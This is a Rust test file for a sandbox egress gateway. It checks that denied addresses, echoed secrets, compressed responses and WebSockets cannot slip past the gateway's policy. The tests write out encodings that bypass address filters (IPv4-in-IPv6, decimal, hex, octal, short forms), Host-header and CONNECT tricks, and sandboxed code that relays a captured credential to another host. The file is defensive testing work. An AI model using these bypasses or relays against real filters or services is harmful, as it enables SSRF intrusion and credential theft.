//! The gateway against hostile code: every spelling of a denied address
//! (IPv4 inside IPv6, decimal, hexadecimal, octal, short forms), through the
//! proxy, the Host header and CONNECT; and a bound host that echoes the
//! secret back, in headers and in a body that splits it across chunks.
//! Each case asserts the typed outcome and that nothing of the gateway is
//! left.

mod common;
#[path = "common/egress_probe.rs"]
mod egress_probe;
#[path = "common/egress_servers.rs"]
mod egress_servers;

use std::time::Duration;

use dockhand::{Egress, Sandbox, Secret, Type};
use egress_probe::{
    assert_nothing_left, assert_reaches_the_api, probe_with, setup, sha256_hex, status,
    the_gateway, PROBE, SERIAL,
};
use serde_json::Value;

/// CONNECT to `host:port` through the proxy; the proxy's status line.
const CONNECT: &str = r#"
def connect(host, port):
    import os, urllib.parse
    proxy = urllib.parse.urlsplit(os.environ.get("HTTPS_PROXY") or os.environ["https_proxy"])
    s = socket.create_connection((proxy.hostname, proxy.port), timeout=10)
    s.sendall(("CONNECT %s:%d HTTP/1.1\r\nHost: %s:%d\r\n\r\n" % (host, port, host, port)).encode())
    return {"line": s.recv(4096).split(b"\r\n")[0].decode(errors="replace")}
"#;

/// The IPv4 address `a.b.c.d` spelled every way a resolver or an HTTP
/// client would still take it to mean that address.
fn spellings(address: &str) -> Vec<String> {
    let o: Vec<u32> = address.split('.').map(|p| p.parse().unwrap()).collect();
    let n = (o[0] << 24) | (o[1] << 16) | (o[2] << 8) | o[3];
    vec![
        format!("[::ffff:{address}]"),
        format!("[::ffff:{:x}:{:x}]", n >> 16, n & 0xffff),
        format!("[64:ff9b::{address}]"),
        format!("[2002:{:x}:{:x}::1]", n >> 16, n & 0xffff),
        format!("[::{address}]"),
        n.to_string(),
        format!("0x{n:x}"),
        format!("0{:o}.0{:o}.0{:o}.0{:o}", o[0], o[1], o[2], o[3]),
        format!("{}.{}.{}", o[0], o[1], (o[2] << 8) | o[3]),
        format!("{}.{}", o[0], n & 0xff_ffff),
    ]
}

#[tokio::test]
async fn no_spelling_of_a_denied_address_gets_through() {
    let _serial = SERIAL.lock().await;
    let (client, servers) = setup().await;
    let hosts = spellings(&servers.address);
    let hosts_json = serde_json::to_string(&hosts).unwrap();
    let body = format!(
        r#"{{
        "plain": fetch("http://%s/" % server),
        "named": fetch("http://api.example.test/"),
        "proxied": {{h: fetch("http://%s/" % h) for h in {hosts_json}}},
        "host_header": {{h: fetch("http://api.example.test/", proxy=False, headers={{"Host": h}}) for h in {hosts_json}}},
        "connect": {{h: connect(h, 443) for h in {hosts_json}}},
    }}"#
    );
    let policy = Egress::allow(["*"]).deny([servers.address.as_str()]);
    let r = probe_with(&client, policy, &servers.address, CONNECT, &body).await;
    assert_eq!(
        status(&r["plain"]),
        403,
        "the address itself: {}",
        r["plain"]
    );
    // The names point at the same server: the name is allowed, the address
    // it resolves to is not.
    assert_eq!(status(&r["named"]), 502, "{}", r["named"]);
    assert!(
        r["named"]["text"]
            .as_str()
            .unwrap_or_default()
            .contains("no address the policy allows"),
        "{}",
        r["named"]
    );
    for host in &hosts {
        let proxied = &r["proxied"][host];
        assert_eq!(status(proxied), 403, "proxy to {host}: {proxied}");
        let header = &r["host_header"][host];
        assert_eq!(status(header), 403, "Host: {host}: {header}");
        let line = r["connect"][host]["line"].as_str().unwrap_or_default();
        assert!(
            line.contains(" 403 "),
            "CONNECT {host}: {}",
            r["connect"][host]
        );
    }
    drop(client);
    assert_nothing_left().await;
}

#[tokio::test]
async fn a_bound_host_that_echoes_the_secret_gives_back_only_the_placeholder() {
    let _serial = SERIAL.lock().await;
    let (client, _servers) = setup().await;
    const REAL: &str = "sk-test-echoed-value-51d0c7";
    let code = format!(
        "{PROBE}\nimport os\nkey = os.environ['API_KEY']\nauth = {{'Authorization': 'Bearer ' + key}}\n\
         def echo(url, **kw):\n    \
             opener = urllib.request.build_opener() if kw.get('proxy', True) else urllib.request.build_opener(urllib.request.ProxyHandler({{}}))\n    \
             req = urllib.request.Request(url, headers=dict(auth, **{{'Accept-Encoding': kw.get('enc', 'identity')}}))\n    \
             try:\n        \
                 with opener.open(req, timeout=10) as r:\n            \
                     return {{'status': r.status, 'headers': {{k.lower(): v for k, v in r.headers.items()}}, 'body': r.read().decode(errors='replace')}}\n    \
             except urllib.error.HTTPError as e:\n        \
                 return {{'status': e.code, 'headers': {{k.lower(): v for k, v in e.headers.items()}}, 'body': e.read().decode(errors='replace')}}\n\
         https = echo('https://api.example.test/echo')\n\
         http = echo('http://api.example.test/echo', proxy=False, enc='gzip, br')\n\
         gz = echo('https://api.example.test/echo/gzip')\n\
         two = echo('https://api.example.test/echo/two-encodings')\n\
         te = echo('http://api.example.test/echo/te-gzip', proxy=False)\n\
         got = https['headers'].get('x-echo-auth', '')\n\
         relay = fetch('https://other.example.test/', headers={{'Authorization': got}})\n\
         result = json.dumps({{'key': key, 'https': https, 'http': http, 'gzip': gz, 'two': two, 'te': te, 'relay': relay}})\n\
         echoed = got"
    );
    let sandbox = Sandbox::code("egress-echo", code)
        .output("result", Type::Str)
        .output("echoed", Type::Str)
        .network(Egress::allow(["*.example.test"]))
        .secret(Secret::for_hosts("API_KEY", REAL, ["api.example.test"]))
        .timeout(Duration::from_secs(120))
        .build()
        .expect("a sandbox");
    let out = client
        .run(&sandbox, dockhand::NO_INPUTS)
        .await
        .expect("runs");
    let text = out.get::<String>("result").unwrap();
    assert!(
        !text.contains(REAL),
        "the value reached the sandbox: {text}"
    );
    let r: Value = serde_json::from_str(&text).unwrap();
    let placeholder = r["key"].as_str().unwrap();
    for key in ["https", "http"] {
        let echo = &r[key];
        assert_eq!(status(echo), 200, "{key}: {echo}");
        assert_eq!(
            echo["headers"]["x-echo-auth"],
            format!("Bearer {placeholder}").as_str(),
            "{key}: the header echo"
        );
        assert_eq!(echo["headers"]["x-accept-encoding"], "identity", "{key}");
        let body = echo["body"].as_str().unwrap();
        assert_eq!(
            body.matches(placeholder).count(),
            3,
            "{key}: every echo in the chunked body: {body}"
        );
    }
    // A host that compresses anyway is refused, not passed on unsearched,
    // however it frames it (a second Content-Encoding after `identity`, a
    // compressing transfer coding).
    for framing in ["gzip", "two", "te"] {
        assert_eq!(status(&r[framing]), 502, "{framing}: {}", r[framing]);
        assert!(
            r[framing]["body"].as_str().unwrap().contains("gzip"),
            "{framing}: {}",
            r[framing]
        );
    }
    // What it got back is worth nothing elsewhere.
    assert_eq!(status(&r["relay"]), 200, "{}", r["relay"]);
    assert_ne!(
        r["relay"]["body"]["auth_sha256"],
        sha256_hex(&format!("Bearer {REAL}")).as_str(),
        "the real value reached another host"
    );
    assert_eq!(
        out.get::<String>("echoed").unwrap(),
        format!("Bearer {placeholder}")
    );
    drop(client);
    assert_nothing_left().await;
}

/// A secret the program does get (in its environment) is redacted from
/// its typed outputs, as from its printed text.
#[tokio::test]
async fn typed_outputs_are_redacted_of_secret_values() {
    let client = common::client().await;
    const REAL: &str = "sk-test-typed-output-9a3e";
    let sandbox = Sandbox::code(
        "typed-redaction",
        "import os\nk = os.environ['TOKEN']\ntext = 'k=' + k\ndata = {'k': k, k: [k]}\nprint(k)",
    )
    .output("text", Type::Str)
    .output("data", Type::Json)
    .secret(Secret::value("TOKEN", REAL))
    .build()
    .unwrap();
    let out = client.run(&sandbox, dockhand::NO_INPUTS).await.unwrap();
    let text = out.get::<String>("text").unwrap();
    assert_eq!(text, "k=[redacted:TOKEN]");
    let data = out.get::<Value>("data").unwrap();
    assert!(!data.to_string().contains(REAL), "{data}");
    assert_eq!(data["k"], "[redacted:TOKEN]");
    assert!(!out.stdout.text.contains(REAL), "{}", out.stdout.text);
}

/// A one-shot whose gateway is killed while it runs does not pass for a
/// run that went as written: it fails typed, and the next run gets a new
/// gateway.
#[tokio::test]
async fn a_run_whose_gateway_dies_under_it_fails_typed() {
    let _serial = SERIAL.lock().await;
    let (client, servers) = setup().await;
    let policy = Egress::allow(["api.example.test"]);
    let code = format!(
        "{PROBE}\nimport time\ngot = []\nuntil = time.time() + 8\nwhile time.time() < until:\n    \
             got.append(fetch('http://api.example.test/').get('status'))\n    \
             time.sleep(0.2)\nresult = json.dumps(got)"
    );
    let sandbox = Sandbox::code("egress-gateway-dies", code)
        .output("result", Type::Str)
        .network(policy.clone())
        .timeout(Duration::from_secs(120))
        .build()
        .unwrap();
    let running = {
        let client = client.clone();
        tokio::spawn(async move { client.run(&sandbox, dockhand::NO_INPUTS).await })
    };
    let gateway = the_gateway().await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    common::docker(&["kill", &gateway]);
    let outcome = running.await.unwrap();
    assert!(
        matches!(outcome, Err(dockhand::Error::EgressGateway { .. })),
        "{outcome:?}"
    );
    assert_reaches_the_api(&client, policy, &servers).await;
    drop(client);
    assert_nothing_left().await;
}

/// A WebSocket through the gateway: carried both ways for a host the
/// sandbox may reach, and refused (403, before any `101`) for a host bound
/// to a secret, whose answers could not have the value taken out.
#[tokio::test]
async fn websockets_are_carried_except_to_hosts_bound_to_secrets() {
    let _serial = SERIAL.lock().await;
    let (client, _servers) = setup().await;
    let code = "import json, socket\n\
        def ws(host):\n    \
            s = socket.create_connection((host, 80), timeout=10)\n    \
            s.sendall(('GET /ws HTTP/1.1\\r\\nHost: %s\\r\\nUpgrade: websocket\\r\\nConnection: Upgrade\\r\\n'\n               \
                'Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==\\r\\nSec-WebSocket-Version: 13\\r\\n\\r\\n' % host).encode())\n    \
            head = b''\n    \
            while b'\\r\\n\\r\\n' not in head:\n        \
                got = s.recv(4096)\n        \
                if not got:\n            \
                    break\n        \
                head += got\n    \
            status = int(head.split(b' ', 2)[1]) if head.startswith(b'HTTP/') else None\n    \
            echoed = ''\n    \
            if status == 101:\n        \
                s.sendall(b'ping over the socket')\n        \
                echoed = s.recv(4096).decode()\n    \
            s.close()\n    \
            return {'status': status, 'echoed': echoed}\n\
        result = json.dumps({'open': ws('other.example.test'), 'bound': ws('api.example.test')})";
    let sandbox = Sandbox::code("egress-websocket", code)
        .output("result", Type::Str)
        .network(Egress::allow(["*.example.test"]))
        .secret(Secret::for_hosts(
            "API_KEY",
            "sk-websocket-bound-9f2",
            ["api.example.test"],
        ))
        .timeout(Duration::from_secs(120))
        .build()
        .expect("a sandbox");
    let out = client
        .run(&sandbox, dockhand::NO_INPUTS)
        .await
        .expect("runs");
    let r: Value = serde_json::from_str(&out.get::<String>("result").unwrap()).unwrap();
    assert_eq!(r["open"]["status"], 101, "{r}");
    assert_eq!(r["open"]["echoed"], "ping over the socket", "{r}");
    assert_eq!(r["bound"]["status"], 403, "{r}");
    assert_eq!(r["bound"]["echoed"], "", "{r}");
    drop(client);
    assert_nothing_left().await;
}
